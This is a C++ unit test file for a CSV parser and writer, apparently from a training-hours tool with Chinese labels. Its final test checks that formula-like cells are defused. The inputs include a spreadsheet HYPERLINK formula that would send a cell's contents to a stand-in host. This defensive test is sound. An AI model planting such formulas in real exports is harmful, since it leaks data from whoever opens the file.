#include <doctest/doctest.h>

#include <string>
#include <vector>

#include "csv.hpp"

using cehours::CsvReader;
using cehours::CsvRow;

namespace {

std::vector<CsvRow> read_all(std::string_view text) {
    CsvReader reader(text);
    std::vector<CsvRow> rows;
    CsvRow row;
    while (reader.next(row)) rows.push_back(row);
    return rows;
}

using Cells = std::vector<std::string>;

}  // namespace

TEST_SUITE("CSV (RFC 4180)") {
    TEST_CASE("quoted fields keep commas, line breaks and doubled quotes") {
        const auto rows = read_all("a,\"b, c\",\"line 1\r\nline 2\",\"say \"\"hi\"\"\"\r\nnext,row\r\n");
        REQUIRE(rows.size() == 2);
        CHECK(rows[0].cells == Cells{"a", "b, c", "line 1\r\nline 2", "say \"hi\""});
        CHECK(rows[0].line == 1);
        CHECK(rows[1].cells == Cells{"next", "row"});
        CHECK(rows[1].line == 3);  // the quoted line break moved it down a line
    }

    TEST_CASE("LF or CRLF, a last row without a line break, a byte order mark") {
        const auto rows = read_all("\xEF\xBB\xBF姓名,学时\nA,1\r\nB,2");
        REQUIRE(rows.size() == 3);
        CHECK(rows[0].cells == Cells{"姓名", "学时"});
        CHECK(rows[2].cells == Cells{"B", "2"});
        CHECK(rows[2].line == 3);
    }

    TEST_CASE("empty cells are kept; blank rows and Excel's ,,, rows are skipped") {
        const auto rows = read_all("a,,c\n\n,,\n , \nd,e,\n");
        REQUIRE(rows.size() == 2);
        CHECK(rows[0].cells == Cells{"a", "", "c"});
        CHECK(rows[1].cells == Cells{"d", "e", ""});
        CHECK(rows[1].line == 5);
    }

    TEST_CASE("a quote inside an unquoted field is kept as typed") {
        const auto rows = read_all("5\"3,x\n");
        REQUIRE(rows.size() == 1);
        CHECK(rows[0].cells == Cells{"5\"3", "x"});
    }

    TEST_CASE("text after a closing quote: that row is a problem, the next row is read") {
        const auto rows = read_all("\"a\"b,c\nd,e\n");
        REQUIRE(rows.size() == 2);
        CHECK(rows[0].problem.find("第1列") != std::string::npos);
        CHECK(rows[1].cells == Cells{"d", "e"});
        CHECK(rows[1].line == 2);
    }

    TEST_CASE("an unclosed quote names the line it opened on") {
        const auto rows = read_all("a,b\nc,\"d\ne\n");
        REQUIRE(rows.size() == 2);
        CHECK(rows[1].problem.find("第2行") != std::string::npos);
    }

    TEST_CASE("a row is read again from its offset and line") {
        const std::string text = "h\n\"x\ny\",z\nw\n";
        const auto rows = read_all(text);
        REQUIRE(rows.size() == 3);
        const CsvReader reader(text);
        const CsvRow again = reader.row_at(rows[1].offset, rows[1].line);
        CHECK(again.cells == rows[1].cells);
        CHECK(again.line == 2);
    }

    TEST_CASE("a row of more cells than any unit's table is refused, and the next row read") {
        const auto rows = read_all(std::string(5000, ',') + "x\na,b\n");
        REQUIRE(rows.size() == 2);
        CHECK_FALSE(rows[0].problem.empty());
        CHECK(rows[0].cells.size() <= 101);
        CHECK(rows[1].cells == Cells{"a", "b"});
    }

    TEST_CASE("a first pass keeping one cell finds the same rows, lines and problems as a full pass") {
        const std::string text = "\xEF\xBB\xBFh1,h2\n\"x\ny\",\"say \"\"hi\"\"\"\n\n,,\nonly\r\n\"a\"b,c\n" +
                                 std::string(200, ',') + "z\nw,\"open\n";
        const auto full = read_all(text);
        CsvReader reader(text);
        cehours::CsvRowKey key;
        std::size_t index = 0;
        while (reader.next(key, 1)) {
            REQUIRE(index < full.size());
            CAPTURE(index);
            CHECK(key.offset == full[index].offset);
            CHECK(key.line == full[index].line);
            CHECK(key.problem == full[index].problem);
            CHECK(key.cell == (full[index].cells.size() > 1 ? full[index].cells[1] : ""));
            ++index;
        }
        CHECK(index == full.size());
        CHECK(full[1].cells[1] == "say \"hi\"");
    }

    TEST_CASE("fields are quoted for writing only when they need it") {
        CHECK(cehours::csv_field("张三") == "张三");
        CHECK(cehours::csv_field("欧阳, 娜娜") == "\"欧阳, 娜娜\"");
        CHECK(cehours::csv_field("《\"新\"课程》") == "\"《\"\"新\"\"课程》\"");
        CHECK(cehours::csv_field("a\nb") == "\"a\nb\"");
    }

    TEST_CASE("typed text that a spreadsheet would run as a formula gets a leading apostrophe, and nothing else changes") {
        CHECK(cehours::csv_typed_field("=1+1") == "'=1+1");
        CHECK(cehours::csv_typed_field("+1+2") == "'+1+2");
        CHECK(cehours::csv_typed_field("-2") == "'-2");
        CHECK(cehours::csv_typed_field("@SUM(1)") == "'@SUM(1)");
        CHECK(cehours::csv_typed_field("\t=1") == "'\t=1");
        CHECK(cehours::csv_typed_field("\r=1") == "\"'\r=1\"");
        CHECK(cehours::csv_typed_field("=HYPERLINK(\"http://x.example/?\"&A1;\"点我\")") == "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"点我\"\")\"");
        CHECK(cehours::csv_typed_field("张三 =1") == "张三 =1");
        CHECK(cehours::csv_typed_field("") == "");
        CHECK(cehours::csv_typed_field("欧阳, 娜娜") == "\"欧阳, 娜娜\"");
    }
}
